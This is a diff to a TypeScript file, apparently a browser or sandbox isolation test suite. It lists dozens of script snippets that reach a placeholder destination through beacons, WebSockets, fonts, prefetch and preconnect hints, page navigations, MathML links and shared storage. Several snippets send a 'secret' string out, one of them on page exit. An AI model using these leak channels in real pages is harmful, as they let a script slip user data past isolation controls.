@@ -2,8 +2,9 @@
 export interface Way {
   readonly name: string
   /**
-   * What the script does. `to` is where it wants to go: `to.http`, `to.https`, `to.ws`, `to.name`, `to.port`.
-   * `add` puts an element in the page, `settle` waits a moment.
+   * What the script does. `to` is where it wants to go: `http`, `https`, `ws`, `nowhere`, or its `name`, `port` and `ip`.
+   * `make` makes an element, `add` and `head` put it in the page, `svg` in a drawing; `text` gives a text an address,
+   * `rules` lays down rules of speculation, `call` calls another browser: see SHARED in script.ts.
    */
   readonly script: string
 }
@@ -20,6 +21,10 @@ const REQUESTS: readonly Way[] = [
     script: "const x = new XMLHttpRequest(); x.open('GET', to.http, false); x.send()",
   },
   { name: 'beacon', script: "navigator.sendBeacon(to.http, 'secret')" },
+  {
+    name: 'beacon while leaving',
+    script: "addEventListener('pagehide', () => navigator.sendBeacon(to.http, 'secret')); location.reload()",
+  },
   { name: 'WebSocket', script: 'new WebSocket(to.ws)' },
   { name: 'WebSocketStream', script: 'new WebSocketStream(to.ws)' },
   { name: 'EventSource', script: 'new EventSource(to.http)' },
@@ -70,6 +75,11 @@ const STYLES: readonly Way[] = [
     script: `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background-image: url(' + to.http + ') }');
       document.adoptedStyleSheets.push(sheet)`,
   },
+  {
+    name: 'font in a style made by script',
+    script: `const sheet = new CSSStyleSheet(); document.body.style.fontFamily = 'out';
+      sheet.replaceSync('@font-face { font-family: out; src: url(' + to.http + ') }'); document.adoptedStyleSheets.push(sheet)`,
+  },
   { name: 'font', script: "new FontFace('out', `url(${to.http})`).load()" },
 ]
 
@@ -95,6 +105,10 @@ const HINTS: readonly Way[] = [
   { name: 'prefetch', script: "head('link', { rel: 'prefetch', href: to.http })" },
   { name: 'prerender', script: "head('link', { rel: 'prerender', href: to.http })" },
   { name: 'preconnect', script: "head('link', { rel: 'preconnect', href: to.http })" },
+  {
+    name: 'preconnect, out of a tag that stands in the page',
+    script: `const tag = document.querySelector('link'); tag.removeAttribute('href'); tag.rel = 'preconnect'; tag.href = to.http`,
+  },
   { name: 'look-up of a name', script: "head('link', { rel: 'dns-prefetch', href: to.http })" },
   { name: 'look-up of a name that does not exist', script: "head('link', { rel: 'dns-prefetch', href: to.nowhere })" },
   { name: 'manifest', script: "head('link', { rel: 'manifest', href: to.http })" },
@@ -125,6 +139,30 @@ const JOURNEYS: readonly Way[] = [
   { name: 'history', script: "history.pushState(null, '', to.http)" },
   { name: 'refresh', script: "head('meta', { 'http-equiv': 'refresh', content: '0; url=' + to.http })" },
   { name: 'link', script: "add('a', { href: to.http }).click()" },
+  {
+    name: 'link that stands in the page',
+    script: "const link = document.querySelector('a'); link.href = to.http; link.click()",
+  },
+  {
+    name: 'link with a key held down',
+    script:
+      "add('a', { href: to.http }).dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, ctrlKey: true }))",
+  },
+  {
+    name: 'refresh, out of a tag that stands in the page',
+    script: `const tag = document.querySelector('meta[name]').cloneNode(); tag.removeAttribute('name');
+      document.head.append(set(tag, { 'http-equiv': 'refresh', content: '0; url=' + to.http }))`,
+  },
+  {
+    name: 'area of a map',
+    script: `const map = add('map'); const area = make('area', { href: to.http }); map.append(area); area.click()`,
+  },
+  {
+    name: 'formula',
+    script: `const formula = document.createElementNS('http://www.w3.org/1998/Math/MathML', 'mi');
+      formula.setAttribute('href', to.http); document.body.append(formula);
+      formula.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))`,
+  },
   { name: 'link in a new window', script: "add('a', { href: to.http, target: '_blank' }).click()" },
   {
     name: 'link in a drawing',
@@ -208,6 +246,7 @@ const OTHERS: readonly Way[] = [
     script: `(await navigator.serviceWorker.getRegistration())
       .pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: new Uint8Array(65).fill(4) })`,
   },
+  { name: 'shared storage', script: 'sharedStorage.worklet.addModule(to.https)' },
   { name: 'another screen', script: 'new PresentationRequest(to.https).getAvailability()' },
   {
     name: 'transformed document',
